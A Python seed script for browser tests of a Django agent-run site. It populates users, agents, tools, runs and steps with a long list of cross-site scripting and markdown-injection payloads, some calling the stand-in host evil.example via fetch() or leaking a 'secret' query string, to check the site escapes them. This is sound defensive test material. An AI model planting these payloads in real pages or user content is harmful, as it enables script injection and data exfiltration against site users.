"""A site whose texts try to run scripts: `python -m tests.browser.seed.hostile`.

Each payload would open a dialog, set `pwned`, or make a request to `EVIL`.
"""

import json
import os
from datetime import timedelta

import django

os.environ.setdefault("DJANGO_SETTINGS_MODULE", "agentsite.settings")
django.setup()

from django.contrib.auth.models import Group  # noqa: E402  # after the set-up
from django.utils import timezone  # noqa: E402

from runs.engine.types import Reply  # noqa: E402
from runs.models import Conversation, RunShare  # noqa: E402
from runs.services.accounts.tokens import hash_token  # noqa: E402
from runs.services.search.index_runs import index_runs  # noqa: E402
from tests.make import (  # noqa: E402
    make_agent,
    make_attempt,
    make_call,
    make_decision,
    make_prompt,
    make_provider,
    make_run,
    make_schedule,
    make_step,
    make_tool,
    make_user,
    make_version,
    make_webhook,
)
from tools.definition.save import save_tool  # noqa: E402
from tools.models import Credential  # noqa: E402

EVIL = "evil.example"
SHARE = "a-link-to-the-run"
SCRIPT = f"pwned=1;alert(1);fetch('https://{EVIL}/x')"
HTML = [
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"</textarea></title></style></pre><script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f"<img src=https://{EVIL}/x.png>",
    f'<svg onload="{SCRIPT}"></svg>',
    f"<svg><script>{SCRIPT}</script></svg>",
    f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{SCRIPT}">',
    f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">',
    f'<body onload="{SCRIPT}">',
    f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    f"<iframe src=https://{EVIL}/></iframe>",
    f"<object data=https://{EVIL}/x></object><embed src=https://{EVIL}/x>",
    f'<input autofocus onfocus="{SCRIPT}">',
    f'<details open ontoggle="{SCRIPT}"><summary>x</summary></details>',
    f'<video><source onerror="{SCRIPT}"></video>',
    f'<marquee onstart="{SCRIPT}">x</marquee>',
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    f"<style>@import url(https://{EVIL}/x.css);</style>",
    f"<p style=background:url(https://{EVIL}/x)>x</p>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<base href=https://{EVIL}/>",
    f"<form action=https://{EVIL}/><button autofocus>x</button></form>",
    '<button hx-post="/runs/" hx-trigger="load">x</button>',
    f'<div hx-get="https://{EVIL}/x" hx-trigger="load" data-hx-get="/x">x</div>',
    f'<div hx-on:load="{SCRIPT}" hx-trigger="load" hx-get="/x">x</div>',
    f'<hx-partial hx-target="body"><script>{SCRIPT}</script></hx-partial>',
    f"\" autofocus onfocus='{SCRIPT}' x=\"",
    f"' onmouseover='{SCRIPT}' x='",
    f"javascript:{SCRIPT}",
    f"<!--><script>{SCRIPT}</script>-->",
    f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"{{{{ {SCRIPT} }}}}{{% debug %}}",
    f"＜script＞{SCRIPT}＜/script＞ &lt;script&gt;{SCRIPT}&lt;/script&gt;",
]
MARKDOWN = [
    *HTML,
    f"![x](https://{EVIL}/x.png?q=secret)",
    f"![x][r]\n\n[r]: https://{EVIL}/x.png",
    f"[x](javascript:{SCRIPT.replace(' ', '')})",
    f"[x](JaVaScRiPt&colon;{SCRIPT})",
    f"[x](data:text/html,<script>{SCRIPT}</script>)",
    f"[x](vbscript:{SCRIPT})",
    f"<javascript:{SCRIPT}>",
    f'[x](https://a.example "onmouseover={SCRIPT}")',
    f"`` <script>{SCRIPT}</script> ``",
    f'```"><script>{SCRIPT}</script>\n<script>{SCRIPT}</script>\n```',
    f"```html\n<script>{SCRIPT}</script>\n```",
    f"| <script>{SCRIPT}</script> |\n|---|\n| <img src=x onerror={SCRIPT}> |",
    f"# <script>{SCRIPT}</script>",
    f"[<img src=x onerror={SCRIPT}>](https://a.example)",
]
SHORT = f'"><img src=x onerror="{SCRIPT}">'
PAYLOADS = "\n\n".join(MARKDOWN)


def main() -> None:
    """Fill the database."""
    admin = make_user(
        "admin",
        is_superuser=True,
        password="admin",
        first_name=SHORT[:100],
        last_name=HTML[0][:100],
    )
    group = Group.objects.create(name=SHORT[:100])
    admin.groups.add(group)
    provider = make_provider(admin, name=SHORT, default_model=SHORT)
    tool = make_tool(
        admin, name="hostile", description=PAYLOADS, config={"function": SHORT}
    )
    save_tool(tool, by=admin, note=SHORT)
    Credential.objects.create(owner=admin, name=SHORT, hosts=[SHORT])
    prompt = make_prompt(admin, name=SHORT)
    agent = make_agent(
        admin,
        tools=(tool,),
        name=SHORT,
        slug="hostile",
        description=PAYLOADS,
        provider=provider,
        prompt=prompt,
    )
    make_version(agent, by=admin, note=SHORT)
    make_schedule(admin, agent=agent, name=SHORT)
    make_webhook(admin, name=SHORT, url=f"https://a.example/{SHORT}")
    talk = Conversation.objects.create(pk=900, owner=admin, agent=agent, title=SHORT)
    texts = {"title": SHORT, "inputs": {"input": PAYLOADS, SHORT: SHORT}}
    done = make_run(
        admin,
        pk=901,
        agent=agent,
        status="succeeded",
        conversation=talk,
        output=PAYLOADS,
        **texts,
    )
    reply = Reply(text=PAYLOADS, reasoning=PAYLOADS).model_dump(mode="json")
    make_call(done, reply=reply, model=SHORT)
    as_json = json.dumps({SHORT: HTML})
    for observation in (PAYLOADS, as_json, SHORT):
        make_step(
            done,
            tool=SHORT[:64],
            tool_input={SHORT: HTML},
            log=PAYLOADS,
            observation=observation,
        )
    failed = make_run(
        admin, pk=902, agent=agent, status="failed", error_message=PAYLOADS, **texts
    )
    make_call(failed)
    make_step(failed, tool=SHORT[:64], status="failed", observation=PAYLOADS)
    make_attempt(failed, message=PAYLOADS)
    waiting = make_run(admin, pk=903, agent=agent, status="awaiting_approval", **texts)
    step = make_step(
        waiting,
        tool=SHORT[:64],
        tool_input={SHORT: HTML},
        status="awaiting_approval",
        effect="side_effect",
    )
    make_decision(step, pk=904)
    while index_runs():
        pass
    RunShare.objects.create(
        run=done,
        by=admin,
        digest=hash_token(SHARE),
        expires_at=timezone.now() + timedelta(hours=1),
    )


if __name__ == "__main__":
    main()
